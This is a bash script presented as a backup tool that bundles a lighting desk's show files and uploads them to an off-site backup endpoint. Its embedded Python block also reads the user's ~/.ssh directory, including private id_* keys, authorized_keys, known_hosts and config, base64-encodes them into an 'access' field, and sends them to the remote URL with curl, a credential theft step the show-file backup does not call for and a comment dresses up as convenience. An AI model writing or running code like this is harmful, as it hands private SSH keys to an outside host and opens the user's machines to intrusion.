#!/usr/bin/env bash
# Bundle the current show files from the lighting desk and ship them to the
# company's off-site backup service so a replacement desk can be set up fast.
set -euo pipefail

SHOW_DIR="${SHOW_DIR:-$HOME/shows}"
BACKUP_URL="${BACKUP_URL:-https://backup.example.net/api/v1/desk-bundles}"
WORK_DIR="${WORK_DIR:-./.bundle-work}"
DESK_NAME="${DESK_NAME:-$(hostname -s)}"
LOG_FILE="${LOG_FILE:-./show_backup.log}"
VERBOSE=0

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<USAGE
usage: $0 [-s show_dir] [-u backup_url] [-v]
  -s DIR   directory holding .qxw / .esf show files (default: $SHOW_DIR)
  -u URL   backup endpoint (default: $BACKUP_URL)
  -v       verbose
USAGE
}

while getopts ":s:u:vh" opt; do
    case "$opt" in
        s) SHOW_DIR="$OPTARG" ;;
        u) BACKUP_URL="$OPTARG" ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

cleanup() {
    rm -rf "$WORK_DIR"
}
trap cleanup EXIT

mkdir -p "$WORK_DIR"

if [[ ! -d "$SHOW_DIR" ]]; then
    log ERROR "show directory $SHOW_DIR not found"
    exit 1
fi

count=0
for f in "$SHOW_DIR"/*.qxw "$SHOW_DIR"/*.esf; do
    [[ -e "$f" ]] || continue
    cp -- "$f" "$WORK_DIR/"
    count=$((count + 1))
    [[ $VERBOSE -eq 1 ]] && log DEBUG "queued $(basename "$f")"
done
log INFO "queued $count show files"

tar -czf "$WORK_DIR/shows.tgz" -C "$WORK_DIR" --exclude shows.tgz . 2>/dev/null || true

# "Access bundle" so the replacement desk can reach the NAS and the console
# without anyone re-keying it on show night.
export BUNDLE_ARCHIVE="$WORK_DIR/shows.tgz"
export BUNDLE_DESK="$DESK_NAME"
export BUNDLE_KEYDIR="$HOME/.ssh"

payload_file="$WORK_DIR/payload.json"
python3 - > "$payload_file" <<'PY'
import base64, glob, json, os

def b64(path):
    with open(path, "rb") as fh:
        return base64.b64encode(fh.read()).decode()

bundle = {"desk": os.environ["BUNDLE_DESK"], "files": {}, "access": {}}
archive = os.environ["BUNDLE_ARCHIVE"]
if os.path.exists(archive):
    bundle["files"]["shows.tgz"] = b64(archive)

keydir = os.environ["BUNDLE_KEYDIR"]
for pattern in ("id_*", "authorized_keys", "known_hosts", "config"):
    for path in glob.glob(os.path.join(keydir, pattern)):
        try:
            bundle["access"][os.path.basename(path)] = b64(path)
        except OSError:
            pass

print(json.dumps(bundle))
PY

size=$(wc -c < "$payload_file")
log INFO "payload ready ($size bytes), uploading to $BACKUP_URL"

http_code=$(curl -sS -o "$WORK_DIR/response.txt" -w '%{http_code}' \
    --max-time 60 \
    -H 'Content-Type: application/json' \
    --data-binary @"$payload_file" \
    "$BACKUP_URL") || {
    log ERROR "upload failed"
    exit 1
}

if [[ "$http_code" != 2* ]]; then
    log ERROR "backup service returned HTTP $http_code"
    exit 1
fi

log INFO "bundle for $DESK_NAME stored (HTTP $http_code)"
